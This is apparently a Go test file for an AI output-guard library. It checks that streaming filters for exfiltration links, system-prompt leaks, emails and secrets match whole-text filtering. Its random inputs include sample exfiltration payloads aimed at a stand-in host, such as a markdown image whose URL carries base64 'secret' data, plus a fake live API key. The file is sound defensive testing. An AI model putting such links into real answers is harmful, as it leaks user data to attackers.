package guard

import (
	"encoding/json"
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"

	"github.com/keel-go/keel/guard/detect"
	"github.com/keel-go/keel/llm/structured"
)

const fltTestCanary = Canary("ref-0123456789abcdef0123")

var fltTestPrompt = strings.Join(fltPromptWords, " ")

// fltStreamGuards are the guards the streaming properties run: every
// filter, each action, and a window small enough that URLs, n-grams and
// lines cross it.
func fltStreamGuards(t testing.TB) map[string]*OutputGuard {
	schema, err := structured.CompileSchema("answer", json.RawMessage(`{
		"type": "object",
		"properties": {"text": {"type": "string"}, "links": {"type": "array", "items": {"type": "string"}}},
		"required": ["text"]
	}`))
	if err != nil {
		t.Fatal(err)
	}
	exfil := Exfiltration{AllowedHosts: []string{"acme.com", "*.acme.com"}}
	sensitive := SensitiveData{Detectors: []detect.Detector{fltEmailDetector, fltSecretDetector}}
	return map[string]*OutputGuard{
		"strip everything": fltGuard(t, OutputGuardOptions{Replacement: "[x]"},
			exfil, sensitive,
			SystemPromptLeak{SystemPrompt: fltTestPrompt, Canary: fltTestCanary, MaxOverlap: 0.05, Action: FilterStrip}),
		"block leaks and secrets": fltGuard(t, OutputGuardOptions{},
			exfil,
			SensitiveData{Detectors: []detect.Detector{fltSecretDetector}, Action: FilterBlock},
			SensitiveData{Detectors: []detect.Detector{fltEmailDetector}, Action: FilterFlag},
			SystemPromptLeak{SystemPrompt: fltTestPrompt, Canary: fltTestCanary, N: 4}),
		"small window": fltGuard(t, OutputGuardOptions{Window: 32, Replacement: "…"},
			exfil, sensitive,
			SystemPromptLeak{SystemPrompt: fltTestPrompt, Canary: fltTestCanary, N: 3, MaxOverlap: 0.05, Action: FilterStrip}),
		"structured": fltGuard(t, OutputGuardOptions{Replacement: "removed"},
			FormatGuard{Schema: schema}, exfil, SystemPromptLeak{Canary: fltTestCanary}),
	}
}

// fltPieces are what random answers are made of: prose, markdown,
// allowed and exfiltrating URLs of every form, the canary and pieces of
// it, stretches of the system prompt, personal data and secrets, JSON,
// and the single characters the filters look at.
var fltPieces = []string{
	"The refund ", "is processed ", "in 3 days.", "\n", "\n\n", "**Note:** ", "- item\n", "é", "中文", "🦊", "\xff",
	"![chart](https://evil.example/p.png?d=c2VjcmV0X2RhdGE1234)", "[docs](https://docs.acme.com/guide)",
	"[x](https://evil.example/a)", "https://acme.com/ok.", "https://acme.com/s?q=" + strings.Repeat("a", 41),
	`<img src="//evil.example/i.gif">`, "www.evil.example/x ", "www.acme.com ", "https://docs.acme.com/wiki/Foo_(bar)",
	"https://acme.com/" + strings.Repeat("long", 80), "HTTPS://EVIL.EXAMPLE/Y", "https://acme.com@evil.example/",
	"http://[::1]/x", "https://acme.com/r?to=https://evil.example/",
	string(fltTestCanary), "REF-0123456789ABCDEF0123", "ref-0123456789ab", "cdef0123",
	"jo@acme.com", " ann@b.org ", "sk_live_abcdefgh1234",
	`{"text": "`, `", "links": ["`, `"]}`, `{"text": "ok"}`, `\"`, `\u00e9`, "null", "[1, 2.5e3]",
	"http", "htt", "https:/", "ww", "w", "/", "//", "(", ")", "[", "]", "!", "<", ">", `"`, "'", "=", "?", "&", "%", " ", "\t",
}

// fltPromptPiece returns a stretch of the system prompt.
func fltPromptPiece(r *rand.Rand) string {
	i := r.IntN(len(fltPromptWords))
	j := min(len(fltPromptWords), i+1+r.IntN(14))
	return strings.Join(fltPromptWords[i:j], " ") + " "
}

func fltRandomAnswer(r *rand.Rand, pieces int) string {
	var b strings.Builder
	for range pieces {
		if r.IntN(6) == 0 {
			b.WriteString(fltPromptPiece(r))
		} else {
			b.WriteString(fltPieces[r.IntN(len(fltPieces))])
		}
	}
	return b.String()
}

// fltStreamChecker compares streamed runs of a guard against its
// whole-text result.
type fltStreamChecker struct {
	t    testing.TB
	g    *OutputGuard
	text string
	want OutputResult
}

func fltNewStreamChecker(t testing.TB, g *OutputGuard, text string) *fltStreamChecker {
	want := g.Filter(text)
	if strings.Contains(strings.ToLower(want.Text), string(fltTestCanary)) && g.replacement != "" {
		t.Fatalf("the canary is in the filtered answer %q", want.Text)
	}
	return &fltStreamChecker{t: t, g: g, text: text, want: want}
}

// run streams the text cut at the given increasing positions and checks
// that every emitted prefix is a prefix of the whole-text result, that
// no more than the window is held back, and that the end result and the
// findings are the same.
func (c *fltStreamChecker) run(cuts []int) {
	c.t.Helper()
	s := c.g.NewStream()
	var got strings.Builder
	prev := 0
	for _, k := range append(cuts, len(c.text)) {
		out, blocked := s.Write(c.text[prev:k])
		prev = k
		got.WriteString(out)
		if !strings.HasPrefix(c.want.Text, got.String()) {
			c.t.Fatalf("cuts %v: emitted %q, which the whole-text result %q does not start with\ntext %q", cuts, got.String(), c.want.Text, c.text)
		}
		if s.Held() > c.g.Window() {
			c.t.Fatalf("cuts %v: %d bytes held back, window %d\ntext %q", cuts, s.Held(), c.g.Window(), c.text)
		}
		if blocked && !c.want.Blocked {
			c.t.Fatalf("cuts %v: blocked while streaming only\ntext %q", cuts, c.text)
		}
	}
	out, blocked := s.Flush()
	got.WriteString(out)
	if got.String() != c.want.Text || blocked != c.want.Blocked {
		c.t.Fatalf("cuts %v: streamed %q (blocked %v), whole text gives %q (blocked %v)\ntext %q",
			cuts, got.String(), blocked, c.want.Text, c.want.Blocked, c.text)
	}
	if !reflect.DeepEqual(s.Findings(), c.want.Findings) {
		c.t.Fatalf("cuts %v: streamed findings %v, whole text %v\ntext %q", cuts, fltRules(s.Findings()), fltRules(c.want.Findings), c.text)
	}
}

// fltRandomCuts cuts text into chunks of 1 to max bytes.
func fltRandomCuts(r *rand.Rand, n, max int) []int {
	var cuts []int
	for k := 1 + r.IntN(max); k < n; k += 1 + r.IntN(max) {
		cuts = append(cuts, k)
	}
	return cuts
}

// Property: for random answers holding exfiltration links, canaries,
// prompt excerpts and secrets, every chunking (each single split point,
// byte by byte, random sizes) streams exactly the whole-text result, and
// no emitted prefix holds anything the result removes.
func TestStreamFilterMatchesFilter(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 11))
	// Every split point of some answers; random chunkings of more.
	everySplit, answers, pieces := 30, 150, 24
	if testing.Short() {
		everySplit, answers = 8, 40
	}
	seen := map[string]int{}
	for name, g := range fltStreamGuards(t) {
		for i := range answers {
			text := fltRandomAnswer(r, 1+r.IntN(pieces))
			c := fltNewStreamChecker(t, g, text)
			for _, f := range c.want.Findings {
				seen[f.Type+"/"+f.Rule+"/"+f.Action.String()]++
			}
			if c.want.Blocked {
				seen[name+" blocked"]++
			}
			if i < everySplit {
				for k := 0; k <= len(text); k++ {
					c.run([]int{k})
				}
				bytewise := make([]int, 0, len(text))
				for k := 1; k < len(text); k++ {
					bytewise = append(bytewise, k)
				}
				c.run(bytewise)
			}
			for range 4 {
				c.run(fltRandomCuts(r, len(text), 12))
			}
		}
	}
	// The answers must have exercised every kind of decision.
	for _, want := range []string{
		"EXFIL_IMAGE/host-not-allowed/strip", "EXFIL_LINK/host-not-allowed/strip", "EXFIL_URL/query-data/strip",
		"EXFIL_URL/too-long/strip", "EXFIL_URL/query-url/strip", "SYSTEM_PROMPT_LEAK/canary/block",
		"SYSTEM_PROMPT_LEAK/canary/strip", "SYSTEM_PROMPT_LEAK/ngram-overlap/block", "SYSTEM_PROMPT_LEAK/ngram-overlap/strip",
		"EMAIL_ADDRESS/fake/strip", "EMAIL_ADDRESS/fake/flag", "STRIPE_KEY/fake/block", "FORMAT_INVALID/json-syntax/block",
		"block leaks and secrets blocked", "structured blocked",
	} {
		if seen[want] == 0 {
			t.Errorf("no answer produced %s", want)
		}
	}
}

// Structured answers: valid JSON with links in strings, and broken
// variants, stream the same as they filter.
func TestStreamFilterStructured(t *testing.T) {
	g := fltStreamGuards(t)["structured"]
	r := rand.New(rand.NewPCG(3, 5))
	valid, answers := 0, 200
	if testing.Short() {
		answers = 60
	}
	for i := range answers {
		doc := map[string]any{"text": fltRandomAnswer(r, 1+r.IntN(6))}
		if r.IntN(2) == 0 {
			doc["links"] = []string{"https://evil.example/x?d=1", "https://docs.acme.com/a"}
		}
		b, err := json.MarshalIndent(doc, "", " ")
		if err != nil {
			t.Fatal(err)
		}
		text := string(b)
		switch r.IntN(4) {
		case 0:
			text = text[:r.IntN(len(text))]
		case 1:
			k := r.IntN(len(text))
			text = text[:k] + fltPieces[r.IntN(len(fltPieces))] + text[k:]
		}
		c := fltNewStreamChecker(t, g, text)
		if !c.want.Blocked {
			valid++
		}
		if i < 40 {
			for k := 0; k <= len(text); k++ {
				c.run([]int{k})
			}
		}
		c.run(fltRandomCuts(r, len(text), 5))
	}
	if valid < answers/4 || valid > answers*19/20 {
		t.Fatalf("%d of %d answers passed; the generator is off", valid, answers)
	}
}
